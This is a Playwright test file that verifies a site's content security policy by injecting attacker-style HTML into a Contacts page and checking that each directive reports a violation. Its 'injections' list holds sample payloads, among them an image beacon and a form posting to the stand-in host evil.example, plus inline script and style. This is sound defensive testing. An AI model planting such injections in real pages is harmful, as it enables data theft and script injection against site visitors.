/*
 * What the content security policy blocks. What it must allow is seen by every test, since a violation is an error in the console
 * (`guard`); e2e/export/policy.test.ts checks the policy of each page.
 */

import type { Page } from '@playwright/test';
import { expect, test } from '../lib/fixtures';

/** Collects the violations in every document and frame from now on. */
async function watchViolations(page: Page): Promise<readonly string[]> {
  const violations: string[] = [];
  await page.exposeFunction('reportViolation', (directive: string) => violations.push(directive));
  await page.addInitScript(() => {
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      Reflect.get(window, 'reportViolation')(effectiveDirective);
    });
  });
  return violations;
}

/** Changes the HTML of Contacts from its next load on. */
async function changeDocument(page: Page, change: (html: string) => string): Promise<void> {
  await page.route('**/contacts/', async (route) => {
    const response = await route.fetch();
    return route.fulfill({ response, body: change(await response.text()) });
  });
}

/** HTML that an attacker might inject, by the directive that refuses it. */
const injections = {
  'base-uri': '<base href="https://evil.example/">',
  'form-action':
    '<form id="evil" action="https://evil.example/" method="post"><button>Send</button></form>',
  'frame-src': '<iframe src="https://evil.example/"></iframe>',
  'img-src': '<img src="https://evil.example/?stolen" alt="">',
  'media-src': '<video src="https://evil.example/" preload="auto"></video>',
  'object-src': '<object data="/certificates/en/iso-9001.pdf"></object>',
  'script-src-attr': '<img src="/icon.svg" alt="" onload="document.title = \'reached\'">',
  'script-src-elem': '<script>document.title = "reached"</script>',
  'style-src-attr': '<p style="background: url(/stolen)">.</p>',
  'style-src-elem': '<style>body { background: url(/stolen) }</style>',
} as const;

test('injected HTML is blocked', async ({ page, contacts, guard }) => {
  guard.allowHost('evil.example');
  guard.tolerateConsole(/Content Security Policy/);
  const violations = await watchViolations(page);
  const injected = Object.values(injections).join('');
  await changeDocument(page, (html) => html.replace('</body>', `${injected}</body>`));
  await contacts.site.open('contacts', '', { waitUntil: 'load' });
  // Playwright waits for the page that the form would lead to.
  await page.locator('#evil button').click({ noWaitAfter: true });
  await expect.poll(() => [...new Set(violations)].sort()).toEqual(Object.keys(injections));
  await contacts.site.expect('contacts');
});
